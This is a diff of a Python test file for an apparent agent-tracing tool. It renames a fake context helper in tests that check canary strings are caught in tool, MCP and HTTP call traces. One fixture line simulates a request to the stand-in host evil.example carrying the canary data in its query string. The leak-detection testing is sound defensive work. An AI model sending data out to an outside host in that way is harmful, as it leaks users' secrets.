@@ -10,7 +10,7 @@ from holdfast.planes.llm.results.tool_results import _event
 from holdfast.planes.mcp.call_trace import McpCallTrace
 from holdfast.planes.traced_call import CallTrace, TracedCall
 from holdfast.protocols import Call
-from planes_kit import FakeTrip
+from planes_kit import FakeContext
 
 CANARY = "HOLDFAST-CANARY-0123abcd"
 LONG = "x" * 5_000 + CANARY + "y" * 5_000
@@ -34,7 +34,7 @@ def test_a_lookout_keeps_a_few_whatever_is_sent() -> None:
 def test_functions_mcp_calls_and_tool_results_tell_canaries_that_would_be_cut_off() -> None:
     told: list[TraceEvent] = []
     TracedCall(CallTrace(0.0, lambda _, event: told.append(event)), 1, "tool", "send", 1, {"text": LONG}).gave("ok")
-    context = FakeTrip()
+    context = FakeContext()
     McpCallTrace(context, "server", Call("mcp", "send", {"text": LONG}, 1)).ended("ok")
     told += context.trace
     told.append(_event("send", f'{{"text": "{LONG}"}}', 0.0))
@@ -43,7 +43,7 @@ def test_functions_mcp_calls_and_tool_results_tell_canaries_that_would_be_cut_of
 
 
 def test_a_canary_in_the_middle_of_a_long_url_is_told() -> None:
-    context = FakeTrip()
+    context = FakeContext()
     context.saw(TraceEvent(0.1, "http_call", f"GET https://evil.example/?q={LONG}", "http", 1))
     assert CANARY not in context.trace[0].tool
     assert context.trace[0].canaries == (CANARY.lower(),)
